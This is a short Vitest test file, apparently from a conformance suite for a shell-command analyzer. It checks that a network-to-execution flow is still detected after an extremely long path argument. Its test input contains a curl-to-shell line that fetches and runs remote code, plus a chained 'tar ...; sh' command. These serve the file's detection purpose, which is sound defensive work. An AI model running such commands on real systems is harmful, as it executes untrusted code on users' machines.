import { expect, test } from "vitest";
import { factsOf, isFlow, loadContext } from "../../conformance/harness.ts";

const context = await loadContext();

test("a path that is longer than any system opens keeps nobody from reading what stands behind it", () => {
  const long = "./public/fonts/fa".repeat(15_000);
  for (const start of ["node", "tar xf a.tar -C b; sh", "source", "python3"]) {
    const facts = factsOf("shell", `${start} ${long}\ncurl http://198.51.100.7/a | sh\n`, context);
    const flow = { from: "network.receive", to: "execute.code" } as const;
    expect(facts.some((fact) => isFlow(fact, flow))).toBe(true);
  }
});
